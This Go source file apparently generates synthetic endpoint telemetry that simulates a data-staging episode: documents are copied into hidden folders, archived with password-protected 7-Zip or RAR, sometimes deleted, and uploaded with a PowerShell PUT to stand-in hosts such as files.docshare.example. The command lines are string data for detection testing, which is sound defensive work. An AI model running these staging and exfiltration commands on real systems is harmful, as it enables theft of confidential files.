package synth

import (
	"fmt"
	"strconv"
	"strings"
)

// staging returns the rows of one staging episode on h: documents gathered
// into a staging folder by a shell copy or by robocopy/xcopy, then usually
// archived there with 7-Zip or RAR, sometimes cleaned up and sent out.
func (g *gen) staging(h *host) []*row {
	ex := g.userActor(h, "explorer.exe", `C:\Windows\Explorer.EXE`)
	home := `C:\Users\` + ex.acct.name
	g.seq++
	dir, shown := g.stagingDir(home)
	var rows []*row
	var copier *proc
	switch g.r.IntN(3) {
	case 0: // a shell copies the documents itself
		if g.r.IntN(2) == 0 {
			copier = g.spawn(h, ex, "cmd.exe", fmt.Sprintf(`"cmd.exe" /c copy /y "%s\Documents\*.*" "%s\"`, home, shown))
		} else {
			copier = g.spawn(h, ex, "powershell.exe", fmt.Sprintf(`powershell.exe -nop -w hidden -c "Get-ChildItem -Path %s\Documents,%s\Desktop -Recurse -Include *.docx,*.xlsx,*.pdf,*.pst | Copy-Item -Destination '%s'"`, home, home, shown))
		}
		rows = append(rows, g.start(ex, copier))
	case 1:
		sh := g.spawn(h, ex, "cmd.exe", fmt.Sprintf(`"cmd.exe" /c robocopy "%s\Documents" "%s" *.docx *.xlsx *.pdf *.pst /S /R:0 /W:0 /NFL /NDL /NJH`, home, shown))
		copier = g.spawn(h, sh, "robocopy.exe", fmt.Sprintf(`robocopy  "%s\Documents" "%s" *.docx *.xlsx *.pdf *.pst /S /R:0 /W:0 /NFL /NDL /NJH`, home, dir))
		rows = append(rows, g.start(ex, sh), g.start(sh, copier))
	default:
		sh := g.spawn(h, ex, "cmd.exe", fmt.Sprintf(`"cmd.exe" /c xcopy "%s\Desktop\Finance" "%s\" /s /e /h /y /c`, home, shown))
		copier = g.spawn(h, sh, "xcopy.exe", fmt.Sprintf(`xcopy  "%s\Desktop\Finance" "%s\" /s /e /h /y /c`, home, dir))
		rows = append(rows, g.start(ex, sh), g.start(sh, copier))
	}
	var staged []string
	for n := 15 + g.r.IntN(60); n > 0; n-- {
		f := dir + `\` + pick(g, docNames) + fmt.Sprintf(" %d", 1+g.r.IntN(400)) + pick(g, docExts)
		staged = append(staged, f)
		rows = append(rows, g.file(copier, "FileCreated", f, g.size(12<<10, 8<<20)))
	}
	if g.r.IntN(5) == 0 {
		return rows // staged but not (yet) archived
	}
	archive, arc := g.archiver(h, ex, dir)
	rows = append(rows, g.start(ex, arc))
	parts := 1
	if g.r.IntN(3) == 0 {
		parts = 2 + g.r.IntN(4)
	}
	for i := 1; i <= parts; i++ {
		name := archive
		switch {
		case parts > 1 && strings.HasSuffix(archive, ".rar"):
			name = fmt.Sprintf("%s.part%d.rar", strings.TrimSuffix(archive, ".rar"), i)
		case parts > 1:
			name = fmt.Sprintf("%s.%03d", archive, i)
		}
		rows = append(rows, g.file(arc, "FileCreated", name, g.size(5<<20, 200<<20)))
	}
	if g.r.IntN(2) == 0 {
		for _, f := range staged {
			rows = append(rows, g.file(copier, "FileDeleted", f, 0))
		}
	}
	if g.r.IntN(2) == 0 {
		ps := g.spawn(h, ex, "powershell.exe", fmt.Sprintf(`powershell.exe -nop -c "Invoke-WebRequest -Uri https://files.%s.example/upload -Method Put -InFile '%s'"`, pick(g, []string{"sync-cdn", "docshare", "cloudbox"}), archive))
		rows = append(rows, g.start(ex, ps), g.connect(ps, "files.docshare.example", g.publicIP(), 443))
	}
	return rows
}

// stagingDir returns a fresh staging folder: the path file rows carry and
// the form the command line uses (%TEMP% stays unexpanded in cmd.exe lines).
func (g *gen) stagingDir(home string) (path, shown string) {
	leaf := pick(g, []string{"tmp", "cache", "sync", "upd", "data", "bk", "x"}) + strconv.Itoa(g.seq)
	switch n := g.r.IntN(10); {
	case n < 3:
		p := `C:\Users\Public\Documents\` + leaf
		return p, p
	case n < 5:
		p := `C:\Users\Public\Music\` + leaf
		return p, p
	case n < 8:
		return home + `\AppData\Local\Temp\` + leaf, `%TEMP%\` + leaf
	case n < 9:
		p := `C:\ProgramData\` + leaf
		return p, p
	default:
		p := `C:\Windows\Temp\` + leaf
		return p, p
	}
}

// archiver returns the archive path and the process that writes it.
func (g *gen) archiver(h *host, parent *proc, dir string) (string, *proc) {
	pw := randHex(g.r, 10)
	if g.r.IntN(2) == 0 {
		a := dir + `\` + pick(g, []string{"backup", "data", "logs", "update"}) + ".7z"
		return a, g.spawn(h, parent, "7z.exe", fmt.Sprintf(`"C:\Program Files\7-Zip\7z.exe" a -t7z -mx9 -mhe=on -p%s "%s" "%s\*"`, pw, a, dir))
	}
	a := dir + `\` + pick(g, []string{"backup", "data", "logs", "update"}) + ".rar"
	return a, g.spawn(h, parent, "rar.exe", fmt.Sprintf(`rar.exe a -r -m5 -hp%s -v100m "%s" "%s\*"`, pw, a, dir))
}

var docNames = []string{"Q3 Budget", "Payroll", "Board Minutes", "Customer List", "Contract", "Invoice", "Strategy 2026", "HR Review", "Passwords", "Network Diagram", "Roadmap", "Salaries", "M&A Targets", "Pricing", "Audit Findings", "Project Falcon", "Meeting Notes", "Résumé"}

var docExts = []string{".docx", ".docx", ".xlsx", ".xlsx", ".pdf", ".pdf", ".pptx", ".csv", ".pst", ".txt", ".msg"}

var exeNames = []string{"msedge", "chrome", "outlook", "teams", "winword", "excel", "svchost", "backgroundtaskhost", "searchprotocolhost", "onedrive", "conhost", "dllhost"}

func pick(g *gen, list []string) string { return list[g.r.IntN(len(list))] }

// fileType is the AdditionalFields FileType MDE reports for a path.
func fileType(path string) string {
	i := strings.LastIndexByte(path, '.')
	if i < 0 {
		return ""
	}
	switch strings.ToLower(path[i:]) {
	case ".docx":
		return "Docx"
	case ".xlsx":
		return "Xlsx"
	case ".pptx":
		return "Pptx"
	case ".pdf":
		return "Pdf"
	case ".zip":
		return "Zip"
	case ".7z":
		return "SevenZip"
	case ".rar":
		return "Rar"
	case ".cab":
		return "Cab"
	case ".dll", ".exe":
		return "PortableExecutable"
	}
	return ""
}

func userPath(p string, a account) string {
	if !strings.Contains(p, "{user}") {
		return p
	}
	return strings.ReplaceAll(p, "{user}", a.name)
}

// splitWin splits a Windows path into folder and name.
func splitWin(p string) (string, string) {
	i := strings.LastIndexByte(p, '\\')
	if i < 0 {
		return "", p
	}
	return p[:i], p[i+1:]
}

func lower(s string) string { return strings.ToLower(s) }
func upper(s string) string { return strings.ToUpper(s) }
func itoa(v int64) string   { return strconv.FormatInt(v, 10) }

func isPrivate(ip string) bool {
	return strings.HasPrefix(ip, "10.") || strings.HasPrefix(ip, "192.168.") || strings.HasPrefix(ip, "127.")
}
